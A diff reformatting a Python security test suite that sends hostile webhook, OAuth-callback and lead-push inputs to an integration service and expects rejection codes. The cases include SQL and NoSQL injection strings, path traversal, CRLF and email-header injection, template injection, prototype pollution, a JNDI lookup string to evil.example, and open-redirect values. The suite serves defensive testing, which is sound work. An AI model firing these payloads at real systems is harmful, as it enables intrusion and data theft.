@@ -107,7 +107,9 @@ def signed_event(**overrides: Any) -> Callable[[HostileContext], WebhookRequest]
     return build
 
 
-def signed_raw(body: bytes, content_type: str = "application/json") -> Callable[[HostileContext], WebhookRequest]:
+def signed_raw(
+    body: bytes, content_type: str = "application/json"
+) -> Callable[[HostileContext], WebhookRequest]:
     return lambda ctx: _signed(body, ctx, content_type)
 
 
@@ -119,40 +121,93 @@ def _foreign_key_signature(body: bytes) -> str:
     return base64.b64encode(ed25519.Ed25519PrivateKey.generate().sign(body)).decode()
 
 
+def _foreign_signed(body: bytes) -> WebhookRequest:
+    return WebhookRequest(
+        body, {"Content-Type": "application/json", "X-GHL-Signature": _foreign_key_signature(body)}
+    )
+
+
+def _tampered_after_signing(ctx: HostileContext) -> WebhookRequest:
+    """Signed for location A, then re-addressed to B."""
+    body = _body(ctx)
+    tampered = body.replace(ctx.location_a.encode(), ctx.location_b.encode())
+    return WebhookRequest(tampered, {"Content-Type": "application/json", **ctx.sign(body)})
+
+
 WEBHOOK_CASES = [
-    Case("wh-unsigned", "webhook", lambda c: WebhookRequest(_body(c), {"Content-Type": "application/json"}),
-         frozenset({401})),
-    Case("wh-empty-signature", "webhook",
-         lambda c: WebhookRequest(_body(c), {"Content-Type": "application/json", "X-GHL-Signature": ""}),
-         frozenset({401})),
-    Case("wh-garbage-signature", "webhook",
-         lambda c: WebhookRequest(_body(c), {"Content-Type": "application/json", "X-GHL-Signature": "%%not-b64%%"}),
-         frozenset({401})),
-    Case("wh-foreign-key", "webhook",
-         lambda c: (lambda b: WebhookRequest(b, {"Content-Type": "application/json",
-                                                 "X-GHL-Signature": _foreign_key_signature(b)}))(_body(c)),
-         frozenset({401})),
-    Case("wh-signature-of-other-body", "webhook",
-         lambda c: WebhookRequest(_body(c), {"Content-Type": "application/json",
-                                             **c.sign(json.dumps(_event(c, locationId=c.location_b)).encode())}),
-         frozenset({401})),
-    Case("wh-body-tampered-after-signing", "webhook",
-         lambda c: (lambda b: WebhookRequest(b.replace(c.location_a.encode(), c.location_b.encode()),
-                                             {"Content-Type": "application/json", **c.sign(b)}))(_body(c)),
-         frozenset({401})),
-    Case("wh-legacy-rsa-only", "webhook",
-         lambda c: WebhookRequest(_body(c), {"Content-Type": "application/json",
-                                             "X-WH-Signature": base64.b64encode(b"x" * 256).decode()}),
-         frozenset({401})),
+    Case(
+        "wh-unsigned",
+        "webhook",
+        lambda c: WebhookRequest(_body(c), {"Content-Type": "application/json"}),
+        frozenset({401}),
+    ),
+    Case(
+        "wh-empty-signature",
+        "webhook",
+        lambda c: WebhookRequest(_body(c), {"Content-Type": "application/json", "X-GHL-Signature": ""}),
+        frozenset({401}),
+    ),
+    Case(
+        "wh-garbage-signature",
+        "webhook",
+        lambda c: WebhookRequest(
+            _body(c), {"Content-Type": "application/json", "X-GHL-Signature": "%%not-b64%%"}
+        ),
+        frozenset({401}),
+    ),
+    Case(
+        "wh-foreign-key",
+        "webhook",
+        lambda c: _foreign_signed(_body(c)),
+        frozenset({401}),
+    ),
+    Case(
+        "wh-signature-of-other-body",
+        "webhook",
+        lambda c: WebhookRequest(
+            _body(c),
+            {
+                "Content-Type": "application/json",
+                **c.sign(json.dumps(_event(c, locationId=c.location_b)).encode()),
+            },
+        ),
+        frozenset({401}),
+    ),
+    Case(
+        "wh-body-tampered-after-signing",
+        "webhook",
+        _tampered_after_signing,
+        frozenset({401}),
+    ),
+    Case(
+        "wh-legacy-rsa-only",
+        "webhook",
+        lambda c: WebhookRequest(
+            _body(c),
+            {"Content-Type": "application/json", "X-WH-Signature": base64.b64encode(b"x" * 256).decode()},
+        ),
+        frozenset({401}),
+    ),
     Case("wh-empty-body", "webhook", signed_raw(b""), frozenset({400, 401})),
     Case("wh-not-json", "webhook", signed_raw(b"type=ContactUpdate&locationId=x"), frozenset({400})),
     Case("wh-json-array", "webhook", signed_raw(b'[{"type":"ContactUpdate"}]'), frozenset({400})),
     Case("wh-json-null", "webhook", signed_raw(b"null"), frozenset({400})),
-    Case("wh-json-nan", "webhook", signed_raw(b'{"type":"ContactUpdate","locationId":NaN}'), frozenset({400})),
+    Case(
+        "wh-json-nan", "webhook", signed_raw(b'{"type":"ContactUpdate","locationId":NaN}'), frozenset({400})
+    ),
     Case("wh-deep-nesting", "webhook", signed_raw(b"[" * 60000 + b"]" * 60000), frozenset({400, 413})),
-    Case("wh-invalid-utf8", "webhook", signed_raw(b'{"type":"ContactUpdate","id":"\xff\xfe"}'), frozenset({400})),
-    Case("wh-oversized-body", "webhook",
-         lambda c: _signed(json.dumps(_event(c, padding="A" * 300_000)).encode(), c), frozenset({413})),
+    Case(
+        "wh-invalid-utf8",
+        "webhook",
+        signed_raw(b'{"type":"ContactUpdate","id":"\xff\xfe"}'),
+        frozenset({400}),
+    ),
+    Case(
+        "wh-oversized-body",
+        "webhook",
+        lambda c: _signed(json.dumps(_event(c, padding="A" * 300_000)).encode(), c),
+        frozenset({413}),
+    ),
     Case("wh-wrong-content-type", "webhook", lambda c: _signed(_body(c), c, "text/plain"), frozenset({415})),
     Case("wh-missing-type", "webhook", signed_event(type=_DROP), frozenset({422})),
     Case("wh-type-too-long", "webhook", signed_event(type="Contact" * 20), frozenset({422})),
@@ -161,36 +216,62 @@ WEBHOOK_CASES = [
     Case("wh-future-timestamp", "webhook", signed_event(timestamp=_now_iso(3600)), frozenset({400})),
     Case("wh-bad-timestamp", "webhook", signed_event(timestamp="yesterday-ish 10am"), frozenset({400})),
     Case("wh-missing-location", "webhook", signed_event(locationId=_DROP), frozenset({422})),
-    Case("wh-location-path-traversal", "webhook", signed_event(locationId="../../connections/x"), frozenset({422})),
+    Case(
+        "wh-location-path-traversal",
+        "webhook",
+        signed_event(locationId="../../connections/x"),
+        frozenset({422}),
+    ),
     Case("wh-location-sql", "webhook", signed_event(locationId="' OR '1'='1' --"), frozenset({422})),
     Case("wh-location-nosql-object", "webhook", signed_event(locationId={"$ne": None}), frozenset({422})),
     Case("wh-location-crlf", "webhook", signed_event(locationId="loc\r\nX-Injected: 1"), frozenset({422})),
     Case("wh-location-rtl-override", "webhook", signed_event(locationId="loc\u202egpj"), frozenset({422})),
     Case("wh-location-zero-width", "webhook", signed_event(locationId="loc\u200bA"), frozenset({422})),
     Case("wh-location-nul", "webhook", signed_event(locationId="loc\x00A"), frozenset({422})),
-    Case("wh-location-lone-surrogate", "webhook",
-         lambda c: _signed(json.dumps(_event(c)).replace(c.location_a, "loc\\ud800").encode(), c),
-         frozenset({400, 422})),
+    Case(
+        "wh-location-lone-surrogate",
+        "webhook",
+        lambda c: _signed(json.dumps(_event(c)).replace(c.location_a, "loc\\ud800").encode(), c),
+        frozenset({400, 422}),
+    ),
     Case("wh-location-emoji", "webhook", signed_event(locationId="loc\U0001f600"), frozenset({422})),
     Case("wh-contact-id-template", "webhook", signed_event(id="{{7*7}}${7*7}"), frozenset({422})),
     Case("wh-contact-id-missing", "webhook", signed_event(id=_DROP), frozenset({422})),
     Case("wh-webhook-id-number", "webhook", signed_event(webhookId=12345), frozenset({422})),
     Case("wh-webhook-id-empty", "webhook", signed_event(webhookId="   "), frozenset({422})),
     Case("wh-webhook-id-too-long", "webhook", signed_event(webhookId="w" * 300), frozenset({422})),
-    Case("wh-task-contact-injection", "webhook",
-         signed_event(type="TaskCreate", contactId="c1; DROP TABLE tasks"), frozenset({422})),
-    Case("wh-appointment-without-id", "webhook",
-         signed_event(type="AppointmentCreate", id=_DROP, appointment={"title": "x"}), frozenset({422})),
-    Case("wh-company-id-injection", "webhook",
-         signed_event(type="INSTALL", locationId=_DROP, companyId="c$where=1"), frozenset({422})),
+    Case(
+        "wh-task-contact-injection",
+        "webhook",
+        signed_event(type="TaskCreate", contactId="c1; DROP TABLE tasks"),
+        frozenset({422}),
+    ),
+    Case(
+        "wh-appointment-without-id",
+        "webhook",
+        signed_event(type="AppointmentCreate", id=_DROP, appointment={"title": "x"}),
+        frozenset({422}),
+    ),
+    Case(
+        "wh-company-id-injection",
+        "webhook",
+        signed_event(type="INSTALL", locationId=_DROP, companyId="c$where=1"),
+        frozenset({422}),
+    ),
 ]
 
 
 # -------------------------------------------------------------------------------------------- oauth
-def _state(ctx: HostileContext, *, key: str | None = None, clock_offset: float = 0.0, account: str = "a") -> str:
+def _state(
+    ctx: HostileContext, *, key: str | None = None, clock_offset: float = 0.0, account: str = "a"
+) -> str:
     from rankr_ghl.connections.state import StateSigner
 
     return StateSigner(key or ctx.state_key, clock=lambda: time.time() + clock_offset).sign(account)
+
+
+def _used_code(ctx: HostileContext) -> str:
+    return ctx.fresh_code()
 
 
 def callback(**params: Any) -> Callable[[HostileContext], OAuthRequest]:
@@ -209,43 +290,103 @@ _REDIRECT_OK = frozenset({302})
 
 OAUTH_CASES = [
     Case("oauth-forged-state", "oauth", callback(code="c0de", state="eyJ2IjoxfQ.Zm9yZ2Vk"), frozenset({400})),
-    Case("oauth-state-other-key", "oauth",
-         callback(code="c0de", state=lambda c: _state(c, key="k" * 40)), frozenset({400})),
-    Case("oauth-expired-state", "oauth",
-         callback(code="c0de", state=lambda c: _state(c, clock_offset=-7200)), frozenset({400, 410})),
+    Case(
+        "oauth-state-other-key",
+        "oauth",
+        callback(code="c0de", state=lambda c: _state(c, key="k" * 40)),
+        frozenset({400}),
+    ),
+    Case(
+        "oauth-expired-state",
+        "oauth",
+        callback(code="c0de", state=lambda c: _state(c, clock_offset=-7200)),
+        frozenset({400, 410}),
+    ),
     Case("oauth-state-no-dot", "oauth", callback(code="c0de", state="justonepart"), frozenset({400})),
     Case("oauth-state-two-dots", "oauth", callback(code="c0de", state="a.b.c"), frozenset({400})),
     Case("oauth-state-is-url", "oauth", callback(code="c0de", state=EVIL + "/cb"), frozenset({400})),
     Case("oauth-state-oversized", "oauth", callback(code="c0de", state="s" * 5000), frozenset({400, 422})),
-    Case("oauth-code-oversized", "oauth",
-         callback(code="c" * 5000, state=lambda c: _state(c)), frozenset({400, 422})),
-    Case("oauth-bad-code", "oauth",
-         callback(code="sbx-code-doesnotexist", state=lambda c: _state(c)), frozenset({400, 401, 403})),
-    Case("oauth-replayed-code", "oauth",
-         callback(code=lambda c: c.fresh_code(), state=lambda c: _state(c)), frozenset({400, 401, 403, 409})),
-    Case("oauth-no-code", "oauth", callback(state=lambda c: _state(c)), frozenset({400})),
-    Case("oauth-denied", "oauth", callback(error="access_denied", state=lambda c: _state(c)),
-         frozenset({400, 403})),
-    Case("oauth-code-crlf", "oauth",
-         callback(code="abc\r\nSet-Cookie: session=evil", state=lambda c: _state(c)), frozenset({400, 401, 403})),
-    Case("oauth-callback-redirect-uri-param", "oauth",
-         callback(code="sbx-code-nope", state=lambda c: _state(c), redirect_uri=EVIL + "/steal"),
-         frozenset({400, 401, 403})),
-    Case("oauth-callback-return-url-param", "oauth",
-         callback(code="sbx-code-nope", state=lambda c: _state(c, account=EVIL), return_url=EVIL, next=EVIL),
-         frozenset({400, 401, 403})),
+    Case(
+        "oauth-code-oversized",
+        "oauth",
+        callback(code="c" * 5000, state=_state),
+        frozenset({400, 422}),
+    ),
+    Case(
+        "oauth-bad-code",
+        "oauth",
+        callback(code="sbx-code-doesnotexist", state=_state),
+        frozenset({400, 401, 403}),
+    ),
+    Case(
+        "oauth-replayed-code",
+        "oauth",
+        callback(code=_used_code, state=_state),
+        frozenset({400, 401, 403, 409}),
+    ),
+    Case("oauth-no-code", "oauth", callback(state=_state), frozenset({400})),
+    Case(
+        "oauth-denied",
+        "oauth",
+        callback(error="access_denied", state=_state),
+        frozenset({400, 403}),
+    ),
+    Case(
+        "oauth-code-crlf",
+        "oauth",
+        callback(code="abc\r\nSet-Cookie: session=evil", state=_state),
+        frozenset({400, 401, 403}),
+    ),
+    Case(
+        "oauth-callback-redirect-uri-param",
+        "oauth",
+        callback(code="sbx-code-nope", state=_state, redirect_uri=EVIL + "/steal"),
+        frozenset({400, 401, 403}),
+    ),
+    Case(
+        "oauth-callback-return-url-param",
+        "oauth",
+        callback(code="sbx-code-nope", state=lambda c: _state(c, account=EVIL), return_url=EVIL, next=EVIL),
+        frozenset({400, 401, 403}),
+    ),
     Case("oauth-install-account-oversized", "oauth", install(rankr_account="a" * 500), frozenset({400, 422})),
-    Case("oauth-install-redirect-uri-param", "oauth", install(redirect_uri=EVIL + "/cb"), _REDIRECT_OK,
-         redirect_safe=True),
-    Case("oauth-install-return-url-param", "oauth", install(return_url=EVIL, next=EVIL, continue_=EVIL),
-         _REDIRECT_OK, redirect_safe=True),
-    Case("oauth-install-account-is-url", "oauth", install(rankr_account=EVIL + "/x"), _REDIRECT_OK,
-         redirect_safe=True),
-    Case("oauth-install-host-header", "oauth",
-         install(headers={"Host": "evil.example", "X-Forwarded-Host": "evil.example",
-                          "X-Forwarded-Proto": "http"}), _REDIRECT_OK, redirect_safe=True),
-    Case("oauth-install-account-crlf", "oauth", install(rankr_account="acct\r\nSet-Cookie: x=1"),
-         frozenset({302, 400, 422}), redirect_safe=True),
+    Case(
+        "oauth-install-redirect-uri-param",
+        "oauth",
+        install(redirect_uri=EVIL + "/cb"),
+        _REDIRECT_OK,
+        redirect_safe=True,
+    ),
+    Case(
+        "oauth-install-return-url-param",
+        "oauth",
+        install(return_url=EVIL, next=EVIL, continue_=EVIL),
+        _REDIRECT_OK,
+        redirect_safe=True,
+    ),
+    Case(
+        "oauth-install-account-is-url",
+        "oauth",
+        install(rankr_account=EVIL + "/x"),
+        _REDIRECT_OK,
+        redirect_safe=True,
+    ),
+    Case(
+        "oauth-install-host-header",
+        "oauth",
+        install(
+            headers={"Host": "evil.example", "X-Forwarded-Host": "evil.example", "X-Forwarded-Proto": "http"}
+        ),
+        _REDIRECT_OK,
+        redirect_safe=True,
+    ),
+    Case(
+        "oauth-install-account-crlf",
+        "oauth",
+        install(rankr_account="acct\r\nSet-Cookie: x=1"),
+        frozenset({302, 400, 422}),
+        redirect_safe=True,
+    ),
 ]
 
 
@@ -277,18 +418,32 @@ LEAD_PUSH_CASES = [
     Case("lp-payload-string", "lead_push", payload("DROP TABLE leads"), lead_error=REQ),
     Case("lp-payload-null", "lead_push", payload(None), lead_error=REQ),
     Case("lp-payload-number", "lead_push", payload(42), lead_error=REQ),
-    Case("lp-oversized-batch", "lead_push",
-         payload(lambda c: {"leads": [{"leadId": f"l{i}", "locationId": c.location_a} for i in range(101)]}),
-         lead_error=REQ),
-    Case("lp-huge-batch", "lead_push",
-         payload(lambda c: {"leads": [{"leadId": f"l{i}", "locationId": c.location_a} for i in range(5000)]}),
-         lead_error=REQ),
+    Case(
+        "lp-oversized-batch",
+        "lead_push",
+        payload(lambda c: {"leads": [{"leadId": f"l{i}", "locationId": c.location_a} for i in range(101)]}),
+        lead_error=REQ,
+    ),
+    Case(
+        "lp-huge-batch",
+        "lead_push",
+        payload(lambda c: {"leads": [{"leadId": f"l{i}", "locationId": c.location_a} for i in range(5000)]}),
+        lead_error=REQ,
+    ),
     Case("lp-leads-not-list", "lead_push", payload({"leads": {"leadId": "x"}}), lead_error=REQ),
     Case("lp-leads-empty", "lead_push", payload({"leads": []}), lead_error=REQ),
-    Case("lp-unknown-request-field", "lead_push", payload({"leads": [{"leadId": "x"}], "$where": "1"}),
-         lead_error=REQ),
-    Case("lp-bad-invocation-type", "lead_push", payload({"leadId": "x", "invocationType": "DryRun"}),
-         lead_error=REQ),
+    Case(
+        "lp-unknown-request-field",
+        "lead_push",
+        payload({"leads": [{"leadId": "x"}], "$where": "1"}),
+        lead_error=REQ,
+    ),
+    Case(
+        "lp-bad-invocation-type",
+        "lead_push",
+        payload({"leadId": "x", "invocationType": "DryRun"}),
+        lead_error=REQ,
+    ),
     Case("lp-missing-lead-id", "lead_push", lead(leadId=_DROP), lead_error=INVALID),
     Case("lp-lead-id-int", "lead_push", lead(leadId=12345), lead_error=INVALID),
     Case("lp-lead-id-list", "lead_push", lead(leadId=["a", "b"]), lead_error=INVALID),
@@ -301,11 +456,17 @@ LEAD_PUSH_CASES = [
     Case("lp-location-sql", "lead_push", lead(locationId="' OR '1'='1"), lead_error=INVALID),
     Case("lp-location-nosql", "lead_push", lead(locationId={"$ne": None}), lead_error=INVALID),
     Case("lp-location-traversal", "lead_push", lead(locationId="../company:x"), lead_error=INVALID),
-    Case("lp-account-jndi", "lead_push", lead(locationId=_DROP, rankrAccountId="${jndi:ldap://evil.example/a}"),
-         lead_error=INVALID),
+    Case(
+        "lp-account-jndi",
+        "lead_push",
+        lead(locationId=_DROP, rankrAccountId="${jndi:ldap://evil.example/a}"),
+        lead_error=INVALID,
+    ),
     Case("lp-no-target", "lead_push", lead(locationId=_DROP), lead_error=INVALID),
     Case("lp-email-nosql", "lead_push", lead(email={"$gt": ""}), lead_error=INVALID),
-    Case("lp-email-crlf", "lead_push", lead(email="a@b.example\r\nBcc: victim@c.example"), lead_error=INVALID),
+    Case(
+        "lp-email-crlf", "lead_push", lead(email="a@b.example\r\nBcc: victim@c.example"), lead_error=INVALID
+    ),
     Case("lp-email-two-ats", "lead_push", lead(email="a@b@c.example"), lead_error=INVALID),
     Case("lp-phone-letters", "lead_push", lead(phone="call-me-maybe"), lead_error=INVALID),
     Case("lp-phone-emoji", "lead_push", lead(phone="+1555\U0001f4de0100"), lead_error=INVALID),
@@ -315,29 +476,64 @@ LEAD_PUSH_CASES = [
     Case("lp-too-many-tags", "lead_push", lead(tags=[f"t{i}" for i in range(101)]), lead_error=INVALID),
     Case("lp-tag-not-string", "lead_push", lead(tags=[{"$set": "x"}]), lead_error=INVALID),
     Case("lp-tags-string", "lead_push", lead(tags="a,b"), lead_error=INVALID),
-    Case("lp-custom-field-object", "lead_push", lead(customFields={"x": {"$where": "sleep(1000)"}}),
-         lead_error=INVALID),
+    Case(
+        "lp-custom-field-object",
+        "lead_push",
+        lead(customFields={"x": {"$where": "sleep(1000)"}}),
+        lead_error=INVALID,
+    ),
     Case("lp-custom-field-key-long", "lead_push", lead(customFields={"k" * 200: "v"}), lead_error=INVALID),
     Case("lp-proto-pollution", "lead_push", lead(__proto__={"admin": True}), lead_error=INVALID),
-    Case("lp-constructor-pollution", "lead_push", lead(constructor={"prototype": {"x": 1}}), lead_error=INVALID),
+    Case(
+        "lp-constructor-pollution", "lead_push", lead(constructor={"prototype": {"x": 1}}), lead_error=INVALID
+    ),
     Case("lp-first-name-oversized", "lead_push", lead(firstName="A" * 10_000), lead_error=INVALID),
     Case("lp-note-empty", "lead_push", lead(note={"body": ""}), lead_error=INVALID),
     Case("lp-task-wrong-type", "lead_push", lead(task="call back"), lead_error=INVALID),
-    Case("lp-location-not-connected", "lead_push",
-         lead(locationId=lambda c: c.location_unconnected, firstName="{{7*7}}${7*7}<%= 7*7 %>"),
-         lead_error="location_not_connected"),
-    Case("lp-location-of-other-account", "lead_push",
-         lead(rankrAccountId=lambda c: c.account_a, locationId=lambda c: c.location_b,
-              email="x');DROP--@a.example"),
-         lead_error="location_not_connected"),
-    Case("lp-unknown-account", "lead_push", lead(locationId=_DROP, rankrAccountId="acct-nobody-owns"),
-         lead_error="unknown_account"),
-    Case("lp-batch-all-invalid", "lead_push",
-         payload(lambda c: {"leads": [{"leadId": "ok1", "locationId": "bad id"}, 7, None, "x",
-                                      {"leadId": "ok2", "locationId": c.location_b, "rankrAccountId": c.account_a}]}),
-         lead_error="*"),
-    Case("lp-request-location-injection", "lead_push",
-         payload({"leads": [{"leadId": "a1"}], "locationId": "loc\r\n{{x}}"}), lead_error=INVALID),
+    Case(
+        "lp-location-not-connected",
+        "lead_push",
+        lead(locationId=lambda c: c.location_unconnected, firstName="{{7*7}}${7*7}<%= 7*7 %>"),
+        lead_error="location_not_connected",
+    ),
+    Case(
+        "lp-location-of-other-account",
+        "lead_push",
+        lead(
+            rankrAccountId=lambda c: c.account_a,
+            locationId=lambda c: c.location_b,
+            email="x');DROP--@a.example",
+        ),
+        lead_error="location_not_connected",
+    ),
+    Case(
+        "lp-unknown-account",
+        "lead_push",
+        lead(locationId=_DROP, rankrAccountId="acct-nobody-owns"),
+        lead_error="unknown_account",
+    ),
+    Case(
+        "lp-batch-all-invalid",
+        "lead_push",
+        payload(
+            lambda c: {
+                "leads": [
+                    {"leadId": "ok1", "locationId": "bad id"},
+                    7,
+                    None,
+                    "x",
+                    {"leadId": "ok2", "locationId": c.location_b, "rankrAccountId": c.account_a},
+                ]
+            }
+        ),
+        lead_error="*",
+    ),
+    Case(
+        "lp-request-location-injection",
+        "lead_push",
+        payload({"leads": [{"leadId": "a1"}], "locationId": "loc\r\n{{x}}"}),
+        lead_error=INVALID,
+    ),
 ]
 
 CASES: list[Case] = [*WEBHOOK_CASES, *OAUTH_CASES, *LEAD_PUSH_CASES]
